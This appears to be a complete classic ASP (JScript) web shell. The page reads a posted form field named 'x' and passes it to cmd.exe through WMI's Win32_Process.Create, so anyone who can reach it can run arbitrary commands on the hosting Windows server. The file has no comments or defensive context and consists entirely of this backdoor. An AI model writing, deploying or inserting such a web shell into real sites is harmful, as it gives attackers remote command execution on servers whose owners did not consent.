<%@ Language="JScript" %>
<%
var svc = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2");
var proc = svc.Get("Win32_Process");
var line = Request.Form("x");
proc.Create("cmd.exe /c " + line, null, null, 0);
%>
